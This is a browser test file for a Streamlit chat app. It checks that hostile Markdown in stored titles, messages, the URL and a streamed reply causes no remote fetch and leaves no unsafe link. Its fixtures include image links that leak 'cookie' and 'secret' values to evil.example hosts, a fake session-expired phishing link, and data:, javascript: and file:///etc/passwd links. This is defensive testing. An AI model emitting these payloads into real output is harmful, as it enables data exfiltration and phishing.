"""In headless Chromium: hostile Markdown in titles, messages, the URL and a streamed reply makes the browser fetch
nothing from elsewhere, and shows no data:/javascript:/file: link. Every request the page makes is intercepted."""

from __future__ import annotations

import re
import urllib.parse

import pytest

from internlm_app.store.db import ConversationStore
from tests.browser_helpers import CHROMIUM, chromium, send, streamlit_server, tiny_model_env, wait_for_text
from tests.fake_openai import scripted_openai_server

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian chromium at /usr/bin/chromium"),
]

EVIL = "img.evil.example"
TITLE = f"[Session expired – log in again](https://evil.example/login) ![t](http://{EVIL}/title.png)"
USER = f"look ![u](http://{EVIL}/user.png) and ![][ref]\n\n[ref]: http://{EVIL}/ref.png"
REPLY = (
    f"![](http://{EVIL}/reply.png?cookie=1) [open me](data:text/html,<script>alert(1)</script>) "
    "[js](javascript:alert(1)) <data:text/html,hi> [f](file:///etc/passwd) `vec![1]`\n\n"
    "[fine](https://example.org/docs)"
)
STREAMED = ["Here is ", "a picture: ![", f"leak](http://{EVIL}/stream.png?secret=1)", " and ", "[a file](data:text/"]
STREAMED += ["html,<b>x</b>)", " done."]
PHISHING = "[Session expired](https://evil.example/login)"
UNSAFE_HREFS = ("data:", "javascript:", "vbscript:", "file:")


def _seed(db) -> str:
    store = ConversationStore(db)
    cid = store.create_conversation("", title=TITLE)
    store.add_message(cid, "user", USER)
    store.add_message(cid, "assistant", REPLY, stats={"completion_tokens": 9, "finish_reason": "stop"})
    store.close()
    return cid


def _page_facts(page) -> dict:
    """Images with a remote source, link targets, and the text of alerts and sidebar buttons (word joiners out)."""
    return page.evaluate(
        """() => ({
            images: Array.from(document.images).map(i => i.src).filter(s => /^https?:/.test(s)
                && !s.startsWith(location.origin)),
            hrefs: Array.from(document.querySelectorAll('a[href]')).map(a => a.getAttribute('href')),
            alerts: Array.from(document.querySelectorAll('[data-testid="stAlert"]'))
                .map(a => ({text: a.innerText.replaceAll('\\u2060', ''), links: a.querySelectorAll('a').length})),
            sidebar: Array.from(document.querySelectorAll('[data-testid="stSidebar"] button'))
                .map(b => ({text: b.innerText.replaceAll('\\u2060', ''), links: b.querySelectorAll('a').length})),
        })"""
    )


def _assert_no_unsafe_link(facts: dict) -> None:
    hrefs = [h.strip().lower() for h in facts["hrefs"]]
    assert not [h for h in hrefs if h.startswith(UNSAFE_HREFS)], hrefs


def test_hostile_markdown_makes_the_browser_fetch_nothing_from_elsewhere(tmp_path):
    from playwright.sync_api import expect

    (tmp_path / "web").mkdir()
    cid = _seed(tmp_path / "web" / "conversations.db")
    with scripted_openai_server(STREAMED) as api_url:
        env = tiny_model_env(
            tmp_path / "web",
            INTERNLM_BACKEND="openai",
            INTERNLM_OPENAI_BASE_URL=api_url,
            INTERNLM_MODEL_PATH=str(tmp_path / "no-model-here"),
        )
        with streamlit_server(env, tmp_path / "server.log") as url, chromium() as browser:
            page = browser.new_page(viewport={"width": 1280, "height": 900})
            elsewhere: list[str] = []

            def route(request_route) -> None:
                host = urllib.parse.urlsplit(request_route.request.url).hostname
                if host in ("127.0.0.1", "localhost"):
                    request_route.continue_()
                else:
                    elsewhere.append(request_route.request.url)
                    request_route.abort()

            page.route("**/*", route)
            bubbles = page.locator('[data-testid="stChatMessage"]')

            page.goto(f"{url}/?c={cid}")  # a stored conversation: title, message and reply are hostile
            expect(bubbles).to_have_count(2, timeout=60_000)
            expect(page.get_by_text("vec![1]")).to_be_visible()  # code as written, no backslash
            expect(page.locator(f".st-key-open_{cid} button")).to_contain_text("Session expired")
            facts = _page_facts(page)
            assert facts["images"] == [] and elsewhere == []
            _assert_no_unsafe_link(facts)
            for image in ("user.png", "ref.png", "reply.png?cookie=1"):  # each image is a link to it instead
                assert f"http://{EVIL}/{image}" in facts["hrefs"]
            assert "https://example.org/docs" in facts["hrefs"]  # a safe link in its own paragraph stays
            (title,) = [b for b in facts["sidebar"] if "Session expired" in b["text"]]
            assert title == {"text": TITLE, "links": 0}
            page.screenshot(path=str(tmp_path / "hostile-conversation.png"))

            page.goto(f"{url}/?c={urllib.parse.quote(PHISHING)}")  # the id in the URL is plain text in the warning
            expect(page.get_by_text("找不到对话")).to_be_visible(timeout=30_000)
            (warning,) = [a for a in _page_facts(page)["alerts"] if "找不到对话" in a["text"]]
            assert PHISHING in warning["text"] and warning["links"] == 0

            send(page, f"my ![typed](http://{EVIL}/typed.png)")  # a reply streams in, hostile chunk by chunk
            expect(bubbles).to_have_count(2, timeout=30_000)
            wait_for_text(page, 1, contains="done.")
            wait_for_text(page, 1, contains="tokens")  # finished and redrawn from the store
            facts = _page_facts(page)
            assert facts["images"] == [] and elsewhere == []
            _assert_no_unsafe_link(facts)
            assert f"http://{EVIL}/typed.png" in facts["hrefs"]
            assert f"http://{EVIL}/stream.png?secret=1" in facts["hrefs"]

            page.goto(f"{url}/history")  # the picker shows the newest title (the typed message) as the text it is
            picker = page.get_by_role("combobox")  # an <input>: its value is text, never rendered
            expect(picker).to_have_value(re.compile(re.escape(f"my ![typed](http://{EVIL}/typed.png) · ")))
            assert elsewhere == [] and _page_facts(page)["images"] == []
